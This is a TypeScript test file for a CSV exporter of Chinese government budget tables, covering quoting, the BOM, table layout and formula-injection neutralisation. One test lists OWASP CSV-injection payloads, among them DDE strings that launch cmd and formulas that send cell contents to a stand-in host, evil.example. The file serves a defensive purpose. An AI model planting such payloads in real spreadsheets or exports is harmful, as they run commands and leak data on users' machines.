import * as v from 'valibot';
import { describe, expect, it } from 'vitest';
import { FilingSchema } from '../../../src/core/model/filing.ts';
import { csvField, neutraliseText, renderTableCsv, withBom, UTF8_BOM } from '../../../src/core/render/index.ts';
import { FORMULA_NAME, smallFiling, smallFilingInput } from './fixtures.ts';

const lines = (csv: string) => csv.split('\r\n');

function csvOf(tableId: string, filing = smallFiling()): string[] {
  const table = filing.tables.find((t) => t.id === tableId)!;
  return lines(renderTableCsv(filing, table));
}

describe('CSV fields (RFC 4180)', () => {
  it('quotes only what must be quoted, doubling quotes', () => {
    expect(csvField('机关服务')).toBe('机关服务');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('cr\rhere')).toBe('"cr\rhere"');
    expect(csvField('')).toBe('');
  });

  it('neutralises text that a spreadsheet would run as a formula', () => {
    for (const lead of ['=', '+', '-', '@', '\t', '\r']) expect(neutraliseText(`${lead}x`)).toBe(`'${lead}x`);
    expect(neutraliseText('一般公共服务支出')).toBe('一般公共服务支出');
    expect(neutraliseText("'quoted")).toBe("'quoted");
  });

  // OWASP CSV-injection payloads, with the leads a spreadsheet skips or folds before it reads a formula.
  const FORMULAS = [
    '=1+1', '+1+1', '-1+1', '@SUM(A1:A2)', '=HYPERLINK("http://evil.example","点击")', "=cmd|' /C calc'!A0",
    '+cmd|\' /C notepad\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    '=WEBSERVICE("http://evil.example/"&A1)', '=IMPORTDATA("http://evil.example/x.csv")', '=DDE("cmd";"/C calc";"__DdeLink")',
    ' =1+1', '  +SUM(A1)', '\u00A0=1+1', '\u3000=1+1', '\u200B=1+1', '\uFEFF@SUM(A1)', '\u0001=1+1',
    '\t=1+1', '\tplain after a tab', '\rcarriage', '\n=1+1', '\nline feed first', '\r\n=1+1',
    '＝1+1', '＋1+1', '－1+1', '＠SUM(A1)', ' ＝HYPERLINK("http://evil.example")', '\u3000＝1+1', '﹦1+1',
  ];
  const PLAIN = ['一般公共服务支出', "'=already quoted", '合计', '1+1=2', 'a=b', 'x@example.org', '（一）车辆数合计（辆）', '其中：-奖金', '', ' ', '20103'];

  it(`neutralises each of ${FORMULAS.length} formula payloads, and leaves ${PLAIN.length} plain names alone`, () => {
    expect(FORMULAS.length).toBeGreaterThanOrEqual(25);
    for (const payload of FORMULAS) expect(neutraliseText(payload), JSON.stringify(payload)).toBe(`'${payload}`);
    for (const text of PLAIN) expect(neutraliseText(text), JSON.stringify(text)).toBe(text);
  });

  it('neutralises every payload in a rendered table, while a negative amount in the same row stays a number', () => {
    const input = smallFilingInput();
    const income = input.tables.find((t) => t.id === 'income')!;
    const row = income.sections[0]!.rows[1]!;
    row.values.other = '-12.30';
    for (const payload of FORMULAS) {
      row.name = payload.replace(/[\u0001\u200B\uFEFF]/g, ' '); // the model refuses controls and invisibles in names
      const filing = v.parse(FilingSchema, input);
      const record = renderTableCsv(filing, filing.tables.find((t) => t.id === 'income')!);
      const field = csvField(`'${row.name}`);
      expect(record, JSON.stringify(row.name)).toContain(`,${field},万元,`);
      expect(record).toContain(',-12.30\r\n');
    }
  });

  it('adds the UTF-8 BOM once', () => {
    expect(withBom('a\r\n')).toBe('\uFEFFa\r\n');
    expect(withBom(withBom('a\r\n'))).toBe('\uFEFFa\r\n');
    expect(new TextEncoder().encode(withBom('a')).slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
    expect(UTF8_BOM).toBe('\uFEFF');
  });
});

describe('renderTableCsv', () => {
  it('writes a header of machine names, one CRLF-terminated record per row', () => {
    const csv = csvOf('income');
    expect(csv[0]).toBe('id,section,line,key,code,level,name,unit,total,fiscal_appropriation,superior_subsidy,business,operating,affiliated,other');
    expect(csv.at(-1)).toBe(''); // the last record ends with CRLF too
    // A bare LF appears only inside the quoted name that holds one.
    const body = renderTableCsv(smallFiling(), smallFiling().tables[1]!);
    expect(body.replace('"一般, ""公共""\n服务"', '')).not.toMatch(/(?<!\r)\n/);
  });

  it('keeps a blank cell empty and 0.00 as 0.00, amounts at printed precision', () => {
    const csv = csvOf('income');
    expect(csv[1]).toBe('main:total,main,,total,,,合计,万元,1322.38,1322.38,,,,,');
    expect(csv[2]).toBe('main:201,main,,,201,1,一般公共服务支出,万元,1322.38,1322.38,,,,,0.00');
    expect(csvOf('income').join('\n')).toContain(',508.40,508.40,');
    expect(csvOf('income-expenditure')).toContain('expenditure:class_202,expenditure,33,class_202,202,1,外交支出,万元,0.00');
    expect(csvOf('income-expenditure')).toContain('income:government_fund,income,2,government_fund,,,政府性基金预算财政拨款收入,万元,');
  });

  it('writes n/a for a printed ────', () => {
    expect(csvOf('general-budget-basic-expenditure')).toContain('main:309,main,,,309,1,资本性支出（基本建设）,万元,n/a');
  });

  it('quotes names with commas, quotes and newlines', () => {
    expect(csvOf('income').join('\r\n')).toContain('main:20103,main,,,20103,2,"一般, ""公共""\n服务",万元,1322.38');
  });

  it('neutralises formula-like names but never amounts', () => {
    expect(csvOf('income')).toContain(`main:2010301,main,,,2010301,3,'${FORMULA_NAME},万元,813.98,813.98,,,,,`);
    expect(csvOf('general-budget-basic-expenditure')).toContain("main:30103,main,,,30103,2,'-奖金,万元,");
    // A negative amount (a structurally valid filing; no template column allows it yet) stays as printed.
    const input = smallFilingInput();
    const income = input.tables.find((t) => t.id === 'income')!;
    income.sections[0]!.rows[1]!.values.other = '-1.00';
    const filing = v.parse(FilingSchema, input);
    expect(csvOf('income', filing)[2]).toBe('main:201,main,,,201,1,一般公共服务支出,万元,1322.38,1322.38,,,,,-1.00');
  });

  it('leaves columns outside a row\'s section empty (01表 prints both sides in one amount column)', () => {
    const csv = csvOf('fiscal-income-expenditure');
    expect(csv[0]).toBe('id,section,line,key,code,level,name,unit,amount,total,general_budget,government_fund,state_capital');
    expect(csv[1]).toBe('income:general_budget,income,1,general_budget,,,一般公共预算财政拨款,万元,1322.38,,,,');
    expect(csv[2]).toBe('expenditure:class_201,expenditure,33,class_201,201,1,一般公共服务支出,万元,,1300.00,1300.00,,');
  });

  it('gives counts their own unit', () => {
    const csv = csvOf('related-information');
    expect(csv).toContain('assets:vehicles_total,assets,7,vehicles_total,,,（一）车辆数合计（辆）,辆,2');
    expect(csv).toContain('procurement:total,procurement,1,total,,,合计,万元,12.50');
  });

  it('renders an empty table as its header alone', () => {
    expect(csvOf('government-fund')).toEqual([
      'id,section,line,key,code,level,name,unit,opening_balance,income,expenditure_subtotal,basic,project,closing_balance',
      '',
    ]);
  });
});
